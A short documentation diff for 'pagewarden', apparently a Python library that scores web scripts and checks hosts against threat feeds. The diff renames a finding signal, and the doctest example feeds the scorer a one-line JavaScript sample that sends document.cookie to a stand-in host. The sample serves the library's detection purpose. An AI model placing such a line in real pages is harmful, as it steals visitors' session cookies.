@@ -4,7 +4,7 @@
 >>> scorer = pagewarden.Scorer()
 >>> report = scorer.score("new Image().src = '//c.example/?' + document.cookie")
 >>> report.findings[0].signal
-'cookies-sent'
+'all-cookies-sent'
 
 `Scorer` scores scripts, `FeedSet` looks hosts and URLs up in threat feeds, `Engine` combines both into verdicts on scripts,
 connections and pages. `Scorer.score_arrow` and `FeedSet.check_hosts_arrow` take whole columns, `pagewarden.spark` whole corpora.
